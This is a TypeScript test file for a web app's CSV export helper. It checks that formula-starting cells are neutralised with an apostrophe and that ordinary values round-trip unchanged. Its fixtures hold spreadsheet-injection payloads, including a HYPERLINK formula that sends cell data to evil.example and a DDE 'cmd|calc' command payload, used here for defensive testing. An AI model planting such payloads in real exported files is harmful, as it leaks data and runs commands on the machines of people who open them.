import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { PATTERNS } from '#shared/constants.js';
import { toCsv } from '#web/lib/csv.js';

// The one CSV writer (web/src/lib/csv.ts): no cell a spreadsheet opens can start a formula, and
// ordinary cells come back from the file exactly as written.

const parse = (csv: string) => Papa.parse<string[]>(csv, { header: false }).data;

describe('CSV export', () => {
  it('escapes every cell that would start a formula, header and multi-line cells included', () => {
    const evil = [
      '=HYPERLINK("https://evil.example/?"&A3,"Open")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '=2+5+cmd|calc!a0@evil.example',
      '=1+2\nsecond line',
    ];
    const csv = toCsv(
      ['=Header', 'Plain'],
      evil.map((cell) => [cell, 'x']),
    );
    const cells = parse(csv).flat();
    expect(cells.filter((c) => PATTERNS.formulaStart.test(c))).toEqual([]);
    // Shown as the text it was: the apostrophe only.
    expect(
      parse(csv)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(evil.map((c) => `'${c}`));
    expect(parse(csv)[0]).toEqual(["'=Header", 'Plain']);
  });

  it('leaves ordinary cells and numbers as they are, so they read back unchanged', () => {
    const rows = [
      ['Corner "Cafe", Inc.', 'reader@example.com', '10% off', 5, '12.50'],
      ['Line one\nline two', ' spaced ', 'a=b', -3, ''],
    ];
    const csv = toCsv(['Business', 'Email', 'Deal', 'Count', 'Savings'], rows);
    expect(parse(csv)).toEqual([['Business', 'Email', 'Deal', 'Count', 'Savings'], ...rows.map((r) => r.map(String))]);
  });

  it('is the only place the product writes CSV', () => {
    const root = path.resolve(import.meta.dirname, '../..');
    const helper = path.join('web', 'src', 'lib', 'csv.ts');
    const files = ['web/src', 'functions', 'shared', 'infra'].flatMap((dir) =>
      (readdirSync(path.join(root, dir), { recursive: true }) as string[])
        .filter((f) => /\.tsx?$/.test(f))
        .map((f) => path.join(dir, f)),
    );
    expect(files.length).toBeGreaterThan(100);
    expect(files.filter((f) => f !== helper && /\bunparse\b/.test(readFileSync(path.join(root, f), 'utf8')))).toEqual(
      [],
    );
  });
});
